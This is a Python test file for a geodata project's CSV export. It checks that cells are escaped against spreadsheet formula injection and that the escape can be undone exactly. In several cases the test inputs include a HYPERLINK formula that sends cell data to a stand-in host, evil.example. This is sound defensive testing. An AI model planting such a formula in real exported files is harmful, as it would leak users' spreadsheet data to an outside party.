"""Spreadsheet-safe CSV cells: the escape is safe, and undone exactly, for every string."""

from __future__ import annotations

import csv
import functools
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from geodata.catalog import parse_catalogue
from geodata.frame import events_frame
from geodata.geocoding import OfflineGeocoder
from geodata.io.csvcells import DANGEROUS, escape_cell, is_dangerous, unescape_cell
from geodata.io.export import csv_bytes
from geodata.io.readers import parse_events_bytes

#: Strings near the edge of the rule: quotes, then a dangerous character or not, then anything.
EDGY = st.builds(
    lambda quotes, first, rest: "'" * quotes + first + rest,
    st.integers(0, 3),
    st.sampled_from([*sorted(DANGEROUS), "'", "a", "1", ".", " ", ""]),
    st.text(max_size=8),
)
NUMBERS = st.floats(allow_nan=False, allow_infinity=False).map(repr) | st.integers().map(str)


@given(st.text() | EDGY | NUMBERS)
@example("-33.5")
@example("'-33.5")
@example("=1+1")
@example("'=1+1")
@example("''")
@example("-")
@example("-2+3")
def test_escape_is_undone_exactly_and_leaves_no_formula(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    if escaped[:1] in DANGEROUS:
        float(escaped)  # only a plain number may begin with a sign
    assert not is_dangerous(escaped)


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
            '\'=HYPERLINK("http://evil.example/?d="&A2,"Click")',
        ),
        ("+1", "+1"),  # a number
        ("+1+1", "'+1+1"),
        ("-33.5", "-33.5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=x", "'\r=x"),
        ("'=x", "''=x"),
        ("'x", "'x"),
        ("it's", "it's"),
        ('["=x"]', '["=x"]'),
    ],
)
def test_escape_examples(text: str, escaped: str) -> None:
    assert escape_cell(text) == escaped


EVENT = """\
- id: a
  type: attack
  title: {title}
  date: 2020-03-11
  place: {{name: Camp Taji, geo_precision: facility}}
  actors: [{actor}]
  source: {{publisher: P, title: T, quote: Q.}}
"""


def _yaml_string(text: str) -> str:
    return '"' + text.encode("unicode_escape").decode("ascii").replace('"', '\\"') + '"'


@settings(max_examples=40, deadline=None)
@given(title=EDGY | st.text(min_size=1), actor=EDGY | st.text(min_size=1))
@example(title="+\r0", actor="a\rb")  # a lone CR must be quoted, or it ends the row
@example(title='=HYPERLINK("http://evil.example/?d="&A2,"Click")', actor="'=x")
def test_any_text_survives_a_csv_round_trip(title: str, actor: str) -> None:
    title, actor = title.strip() or "t", actor.strip() or "x"
    geocoder = _tiny_geocoder()
    catalogue = EVENT.format(title=_yaml_string(title), actor=_yaml_string(actor))
    events = parse_catalogue(catalogue).events
    data = csv_bytes(events_frame(events, geocoder))
    _header, row = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert not any(is_dangerous(cell) for cell in row)
    back = parse_events_bytes(data, name="x.csv", geocoder=geocoder).events
    assert (back[0].title, back[0].actors) == (events[0].title, events[0].actors) == (title, [actor])


@functools.cache
def _tiny_geocoder() -> OfflineGeocoder:
    from conftest import TINY_ENTRIES

    from geodata.gazetteer import Gazetteer

    return OfflineGeocoder(Gazetteer(list(TINY_ENTRIES)))
